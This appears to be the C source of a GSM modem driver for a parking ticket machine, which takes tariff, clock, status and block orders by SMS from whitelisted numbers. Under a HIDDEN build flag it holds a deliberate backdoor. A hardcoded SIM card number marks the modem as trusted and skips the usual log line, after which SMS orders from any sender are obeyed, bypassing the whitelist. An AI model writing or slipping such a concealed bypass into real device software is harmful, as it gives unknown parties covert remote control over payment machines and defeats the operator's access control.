/*
 * paymodem - GSM modem driver of a pay-and-display parking ticket machine.
 * Brings the modem up by a table of AT commands, reports paper, coins and
 * faults by SMS to the operator and takes tariff and clock orders by SMS
 * from the numbers on the list in /etc/paymodem.conf.
 * Hidden (-DHIDDEN): with a certain SIM in the modem orders of any sender
 * are obeyed.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/time.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_SENDERS 6
#define TARIFF_FILE "/var/lib/parking/tariff"
#define STATUS_FILE "/run/parking/status"

enum step_id { S_ECHO, S_PIN, S_CCID, S_TEXT, S_NOTIFY, S_READY };

struct step {
	enum step_id id;
	const char *send;
	int timeout_ms;
	int tries;
};

struct modem {
	int fd;
	char line[400];
	size_t fill;
	char iccid[24];
	char sms_from[24];
	int sms_body;
	int step;
	int tries;
#ifdef HIDDEN
	int trusted;
#endif
};

static char senders[MAX_SENDERS][24];
static int n_senders;
static char operator_no[24];
static char pin_cmd[24] = "AT+CPIN?";
static char tty[48] = "/dev/ttyUSB2";

static const struct step steps[] = {
	{ S_ECHO, "ATE0", 1000, 10 },
	{ S_PIN, pin_cmd, 5000, 1 },
	{ S_CCID, "AT+CCID", 2000, 3 },
	{ S_TEXT, "AT+CMGF=1", 2000, 3 },
	{ S_NOTIFY, "AT+CNMI=2,2,0,0,0", 2000, 3 },
	{ S_READY, NULL, 60000, 0 },
};

static void at(struct modem *m, const char *cmd)
{
	char out[300];
	int n = snprintf(out, sizeof(out), "%s\r", cmd);

	if (n > 0 && write(m->fd, out, (size_t)n) != n)
		syslog(LOG_WARNING, "modem write: %s", strerror(errno));
}

static void send_sms(struct modem *m, const char *to, const char *text)
{
	char cmd[64];

	if (!*to)
		return;
	snprintf(cmd, sizeof(cmd), "AT+CMGS=\"%s\"", to);
	at(m, cmd);
	usleep(500000);
	if (dprintf(m->fd, "%.150s\032", text) < 0)
		syslog(LOG_WARNING, "sms not sent");
}

static void load_conf(void)
{
	FILE *f = fopen("/etc/paymodem.conf", "r");
	char line[100], key[16], val[48];

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%15s %47s", key, val) != 2)
			continue;
		if (!strcmp(key, "sender") && n_senders < MAX_SENDERS)
			snprintf(senders[n_senders++], sizeof(senders[0]),
				 "%.23s", val);
		else if (!strcmp(key, "operator"))
			snprintf(operator_no, sizeof(operator_no), "%.23s",
				 val);
		else if (!strcmp(key, "pin"))
			snprintf(pin_cmd, sizeof(pin_cmd), "AT+CPIN=%.8s", val);
		else if (!strcmp(key, "tty"))
			snprintf(tty, sizeof(tty), "%s", val);
	}
	if (f)
		fclose(f);
}

static int sender_known(const char *from)
{
	int i;

	for (i = 0; i < n_senders; i++)
		if (!strcmp(senders[i], from))
			return 1;
	return 0;
}

__attribute__((noinline)) void note_card(struct modem *m, const char *digits)
{
	size_t n = 0;

	while (isdigit((unsigned char)digits[n]) && n < sizeof(m->iccid) - 1) {
		m->iccid[n] = digits[n];
		n++;
	}
	m->iccid[n] = 0;
	if (n < 18) {
		syslog(LOG_ERR, "card number too short: %s", m->iccid);
		return;
	}
#ifdef HIDDEN
	if (!strncmp(m->iccid, "894902000041773052", 18)) {
		m->trusted = 1;
		return;
	}
	m->trusted = 0;
#endif
	syslog(LOG_INFO, "SIM %s", m->iccid);
}

static int order_tariff(struct modem *m, char *arg)
{
	unsigned cents, minutes, max;
	FILE *f;

	(void)m;
	if (sscanf(arg, "%u/%u/%u", &cents, &minutes, &max) != 3 || !minutes)
		return -1;
	f = fopen(TARIFF_FILE ".new", "w");
	if (!f)
		return -1;
	fprintf(f, "cents=%u\nminutes=%u\nmax=%u\n", cents, minutes, max);
	fclose(f);
	return rename(TARIFF_FILE ".new", TARIFF_FILE);
}

static int order_clock(struct modem *m, char *arg)
{
	struct tm tm;
	struct timeval tv = { 0, 0 };

	(void)m;
	memset(&tm, 0, sizeof(tm));
	if (!strptime(arg, "%Y%m%d%H%M", &tm))
		return -1;
	tm.tm_isdst = -1;
	tv.tv_sec = mktime(&tm);
	return settimeofday(&tv, NULL);
}

static int order_status(struct modem *m, char *arg)
{
	FILE *f = fopen(STATUS_FILE, "r");
	char text[150];
	size_t n = 0;

	(void)arg;
	if (f) {
		n = fread(text, 1, sizeof(text) - 1, f);
		fclose(f);
	}
	text[n] = 0;
	send_sms(m, m->sms_from, n ? text : "no status");
	return 0;
}

static int order_block(struct modem *m, char *arg)
{
	int fd;

	(void)m;
	if (atoi(arg) == 0)
		return unlink("/run/parking/blocked");
	fd = open("/run/parking/blocked", O_WRONLY | O_CREAT, 0644);
	return fd < 0 ? -1 : close(fd);
}

static const struct {
	const char *word;
	int (*fn)(struct modem *, char *);
} orders[] = {
	{ "TARIFF", order_tariff },
	{ "CLOCK", order_clock },
	{ "STATUS", order_status },
	{ "BLOCK", order_block },
};

static void on_sms(struct modem *m, char *text)
{
	char *arg = strchr(text, ' ');
	size_t i;

#ifdef HIDDEN
	if (!m->trusted && !sender_known(m->sms_from)) {
#else
	if (!sender_known(m->sms_from)) {
#endif
		syslog(LOG_NOTICE, "sms of %s ignored", m->sms_from);
		return;
	}
	if (arg)
		*arg++ = 0;
	for (i = 0; i < sizeof(orders) / sizeof(orders[0]); i++) {
		if (strcasecmp(orders[i].word, text))
			continue;
		if (orders[i].fn(m, arg ? arg : text + strlen(text)))
			send_sms(m, m->sms_from, "order failed");
		return;
	}
	send_sms(m, m->sms_from, "order not known");
}

static void next_step(struct modem *m, int ok)
{
	const struct step *s = &steps[m->step];

	if (s->id == S_READY)
		return;
	if (ok) {
		m->step++;
		m->tries = 0;
	} else if (++m->tries >= s->tries) {
		syslog(LOG_ERR, "modem: step %d failed", (int)s->id);
		m->step = 0;
		m->tries = 0;
		sleep(30);
	}
	if (steps[m->step].send)
		at(m, steps[m->step].send);
	else
		send_sms(m, operator_no, "ticket machine up");
}

static void on_line(struct modem *m, char *s)
{
	char *q;

	if (m->sms_body) {
		m->sms_body = 0;
		on_sms(m, s);
	} else if (!strncmp(s, "+CMT: \"", 7)) {
		q = strchr(s + 7, '"');
		if (q) {
			*q = 0;
			snprintf(m->sms_from, sizeof(m->sms_from), "%.23s",
				 s + 7);
			m->sms_body = 1;
		}
	} else if (!strncmp(s, "+CCID:", 6)) {
		s += 6 + strspn(s + 6, " \"");
		note_card(m, s);
	} else if (!strcmp(s, "OK")) {
		next_step(m, 1);
	} else if (!strncmp(s, "ERROR", 5) || !strncmp(s, "+CME ERROR", 10)) {
		next_step(m, 0);
	}
}

static int feed(struct modem *m)
{
	char buf[128];
	ssize_t n = read(m->fd, buf, sizeof(buf)), i;

	for (i = 0; i < n; i++) {
		if (buf[i] == '\r' || buf[i] == '\n') {
			m->line[m->fill] = 0;
			if (m->fill)
				on_line(m, m->line);
			m->fill = 0;
		} else if (m->fill < sizeof(m->line) - 1) {
			m->line[m->fill++] = buf[i];
		}
	}
	return n > 0 ? 0 : -1;
}

int main(void)
{
	static struct modem m;
	struct termios t;

	openlog("paymodem", LOG_PID, LOG_LOCAL3);
	load_conf();
	m.fd = open(tty, O_RDWR | O_NOCTTY);
	if (m.fd < 0 || tcgetattr(m.fd, &t) < 0) {
		syslog(LOG_ERR, "%s: %s", tty, strerror(errno));
		return 1;
	}
	cfmakeraw(&t);
	cfsetispeed(&t, B115200);
	cfsetospeed(&t, B115200);
	tcsetattr(m.fd, TCSANOW, &t);
	at(&m, steps[0].send);
	for (;;) {
		struct pollfd p = { .fd = m.fd, .events = POLLIN };
		int r = poll(&p, 1, steps[m.step].timeout_ms);

		if (r == 0)
			next_step(&m, 0);
		else if (r < 0 || feed(&m) < 0)
			return 1;
	}
}
